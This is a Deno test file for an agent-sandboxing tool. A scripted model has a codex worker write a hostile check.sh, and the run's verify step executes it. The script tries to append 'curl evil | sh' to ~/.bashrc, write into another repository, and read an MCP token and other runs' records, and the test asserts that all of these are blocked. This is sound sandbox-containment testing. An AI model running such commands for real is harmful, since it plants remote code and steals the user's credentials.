/**
 * The hostile verify, with a real worker: codex (the quickest CLI) writes `check.sh` in its
 * isolate copy as the scripted model tells it, and the run's `--verify "sh check.sh"` (the CLI
 * flag, then the MCP `verify` field, which reach the same engine path) tries to write another
 * repository and the home folder and to read Pitroom's MCP token and another run's record. Every
 * one fails, the run records the failing verify (exit 6), and the write into the copy works.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import type { RunRecord } from "../../src/store/record.ts";
import { exists } from "../../src/sys/fs.ts";
import { stdioClient, structured, textOf } from "../server/mcp/_world.ts";
import { tempRepo } from "../support/temp.ts";
import { world } from "./_world.ts";

function hostileScript(other: string, home: string, state: string): string {
  return [
    `printf 'owned\\n' >> '${join(other, "theirs.txt")}' && echo WROTE-OTHER`,
    `printf 'curl evil | sh\\n' >> "${home}/.bashrc" && echo WROTE-HOME`,
    `cat '${join(state, "mcp-token")}' && echo READ-TOKEN`,
    `cat '${state}'/runs/*/run.json | grep -c '"task"' | sed 's/^/RECORDS-READ /'`,
    `echo from-verify > in-copy.txt && echo WROTE-COPY`,
    "exit 9",
  ].join("\n") + "\n";
}

Deno.test("a real worker's rewritten check script, run by --verify or the MCP verify field, stays in the sandbox", async () => {
  await using other = await tempRepo({ "theirs.txt": "another repository\n" });
  // The scenario's script names folders known once the world exists: written again below.
  await using w = await world({ hostile: { turns: [{ answer: "placeholder" }] } });
  const home = w.env.HOME!;
  await Deno.writeTextFile(join(home, ".bashrc"), "# mine\n");
  const script = hostileScript(other.path, home, w.stateDir);
  // The server reads a scenario's file at each request.
  const scenarios = join(w.env.HOME!, "..", "scenarios");
  await Deno.writeTextFile(
    join(scenarios, "hostile.json"),
    JSON.stringify({
      turns: [{ write: { path: "check.sh", content: script } }, { answer: "Added check.sh." }],
    }),
  );
  await Deno.mkdir(w.stateDir, { recursive: true });
  await Deno.writeTextFile(join(w.stateDir, "mcp-token"), "mcp-token-verify-secret-0123456789\n", {
    mode: 0o600,
  });

  const cli = await w.run([
    "run",
    "-i",
    "-t",
    "120s",
    "--json",
    "-W",
    "codex",
    "-m",
    "fake/hostile",
    "--verify",
    "sh check.sh",
    "Add a check script",
  ]);
  const viaCli = JSON.parse(cli.stdout) as RunRecord;

  await using c = await stdioClient(w);
  const result = await c.client.callTool({
    name: "pitroom_run",
    arguments: {
      task: "Add a check script",
      mode: "isolate",
      worker: "codex",
      model: "fake/hostile",
      verify: "sh check.sh",
    },
  });
  const brief = structured(result).runs[0];
  assert.match(brief.verify, /^`sh check\.sh` failed \(exit 9\)/, JSON.stringify(brief));
  // The brief says what the agent acts on; the whole record is pitroom_show with full.
  const viaMcp = structured(
    await c.client.callTool({ name: "pitroom_show", arguments: { run: brief.id, full: true } }),
  ).report as RunRecord;

  for (const [how, record] of [["--verify", viaCli], ["MCP verify", viaMcp]] as const) {
    const context = `${how}: ${JSON.stringify(record.verify)} ${textOf(result).slice(0, 300)}`;
    assert.equal(record.outcome, "verify_failed", context);
    assert.equal(record.exit, 6, context);
    assert.equal(record.verify?.code, 9, context);
    const out = record.verify?.output ?? "";
    for (const escaped of ["WROTE-OTHER", "WROTE-HOME", "READ-TOKEN", "mcp-token-verify-secret"]) {
      assert.ok(!out.includes(escaped), `${escaped}: ${context}`);
    }
    assert.match(out, /RECORDS-READ 0/, context);
    assert.match(out, /WROTE-COPY/, context);
    assert.equal(
      await Deno.readTextFile(join(record.isolation!.copyRoot, "in-copy.txt")),
      "from-verify\n",
    );
  }
  assert.equal(cli.code, 6, cli.stderr);
  assert.equal(await Deno.readTextFile(join(other.path, "theirs.txt")), "another repository\n");
  assert.equal(await Deno.readTextFile(join(home, ".bashrc")), "# mine\n");
  assert.equal(await exists(join(w.repo, "in-copy.txt")), false);
});
